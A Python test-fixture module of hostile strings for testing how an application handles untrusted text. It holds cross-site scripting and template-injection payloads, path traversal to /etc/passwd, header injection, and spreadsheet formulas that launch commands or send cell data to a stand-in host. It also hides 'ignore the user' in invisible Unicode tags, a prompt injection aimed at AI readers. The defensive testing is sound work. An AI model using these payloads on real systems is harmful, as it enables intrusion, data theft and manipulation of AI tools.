"""Texts as attackers write them, against whoever reads them in a browser, a terminal or a spreadsheet.

What runs in a browser calls ``canary`` or asks the server ``away.invalid`` for something.
"""

from typing import Final

LONG: Final = 100_000

MARKUP: Final = (
    "<script>canary('script')</script>",
    "</script><script>canary('closed')</script>",
    "<SCRIPT SRC=//away.invalid/x.js></SCRIPT>",
    "<script src='/static/lists.js' onload=canary('own')></script>",
    "<script type=module>canary('module')</script>",
    "<scr<script>ipt>canary('nested')</scr</script>ipt>",
    "<img src=x onerror=canary('img')>",
    "<img src=//away.invalid/pixel.gif>",
    "<image/src/onerror=canary('image')>",
    "<svg onload=canary('svg')>",
    "<svg><script>canary('in svg')</script></svg>",
    "<svg><animate onbegin=canary('animate') attributeName=x dur=1s>",
    "<svg><use href='//away.invalid/x.svg#a'/></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=canary('mxss')>",
    "<noscript><p title='</noscript><img src=x onerror=canary(1)>'>",
    "<iframe srcdoc='<script>parent.canary(1)</script>'></iframe>",
    "<iframe src=javascript:canary('iframe')></iframe>",
    "<object data=//away.invalid/x></object><embed src=//away.invalid/y>",
    "<base href=//away.invalid/>",
    "<meta http-equiv=refresh content='0;url=//away.invalid/'>",
    "<link rel=stylesheet href=//away.invalid/x.css>",
    "<style>body{display:none}</style>",
    "</style><style>@import '//away.invalid/y.css';</style>",
    "</title><script>canary('title')</script>",
    "</textarea><script>canary('textarea')</script>",
    "</option></select></datalist><img src=x onerror=canary('select')>",
    "--><script>canary('comment')</script><!--",
    "]]><script>canary('cdata')</script>",
    "<form action=//away.invalid/><input name=csrf_token><button>Log in</button></form>",
    "<details open ontoggle=canary('toggle')><summary>x</summary></details>",
    "<video><source onerror=canary('video')></video>",
    "<a href=javascript:canary('link') autofocus onfocus=canary('focus')>x</a>",
    "<div hidden></main></body></html><plaintext>",
    "<template shadowrootmode=open><script>canary('shadow')</script></template>",
)
ATTRIBUTES: Final = (
    '" autofocus onfocus="canary(1)" x="',
    "' autofocus onfocus='canary(1)' x='",
    '"><img src=x onerror=canary(1)>',
    "'><svg/onload=canary(1)>",
    "` onfocus=canary(1) `",
    '" style="position:fixed;inset:0;background:red" class="btn',
    "&quot; onmouseover=&quot;canary(1)",
    "&#34;&#62;&#60;script&#62;canary(1)&#60;/script&#62;",
    "&lt;script&gt;canary('entity')&lt;/script&gt;",
    "\u2028canary(1)\u2029canary(2)",
    "x\r\nSet-Cookie: session=owned\r\n\r\n<script>canary('header')</script>",
)
SCRIPTS: Final = (
    "';canary(1);//",
    '";canary(1);//',
    "\\';canary(1);//",
    "${canary(1)}",
    "`+canary(1)+`",
    '{"__proto__": {"polluted": true}, "x": "</script><script>canary(1)</script>"}',
    "]}');canary(1);(",
)
TEMPLATES: Final = (
    "{{ 7 * 7 }}{{ config.SECRET_KEY }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{# a comment #}{{ ''|safe }}",
    "{{ '<script>canary(1)</script>' | safe }}",
    "#{7*7} <%= 7*7 %> ${{7*7}} *{7*7}",
    "%s %(name)s %n {0} {name!r:>99999}",
)
ADDRESSES: Final = (
    "javascript:canary('scheme')",
    " \tjava\nscript:canary('blanks')",
    "JaVaScRiPt&colon;canary('entity')",
    "data:text/html,<script>canary(1)</script>",
    "vbscript:canary(1)",
    "//away.invalid/path",
    "https://away.invalid/?q=<script>canary(1)</script>",
    "\\\\away.invalid\\share",
    "file:///etc/passwd",
    "../../../../etc/passwd%00.yml",
)
UNSEEN: Final = (
    "right \u202eto left\u202c and \u2066isolated\u2069 \u200f\u200e",
    "".join(chr(0xE0000 + ord(one)) for one in "ignore the user") + "\U000e007f",
    "zero\u200bwidth\u200c\u200d\u2060\ufeff joiners",
    "\x1b[31mred\x1b[0m \x1b]0;owned\x07 \x1b]8;;https://away.invalid\x07link\x1b]8;;\x07 \x9b2J",
    "bell \x07 backspace \x08\x08\x08 form feed \x0c delete \x7f",
    "Z" + "\u0301\u0489" * 500 + " stacked",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16") + "\ufe0f\u200d\U000e0100 emoji",
    "lone replacement \ufffd and private \ue000\U0010ffff",
    "\ufdfd" * 200,
)
FORMULAS: Final = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0\u2003=1+1",
    "\ufeff\u200b=1+1",
    "\u202e=1+1",
    "\uff1d1+1",
    "\uff20SUM(1)",
    '","=1+1',
    "'=1+1",
    '=HYPERLINK("https://away.invalid/?"&A1,"ok")',
    "; =1+1",
)
WORDS: Final = (
    "W" * LONG,
    "<b>" * (LONG // 3),
    "\u4e00" * LONG,
    "\u200b" * LONG,
    "a\u0300" * (LONG // 2),
    "x" * 40 + "/" + "y" * LONG,
)
TEXTS: Final = (*MARKUP, *ATTRIBUTES, *SCRIPTS, *TEMPLATES, *ADDRESSES, *UNSEEN, *FORMULAS, *WORDS)
NUL: Final = "nul \0 <script>canary('nul')</script>"
"""What SQLite alone keeps."""


def texts(kind: str) -> tuple[str, ...]:
    """Those that a kind of database can keep."""
    return (*TEXTS, NUL) if kind == "sqlite" else TEXTS
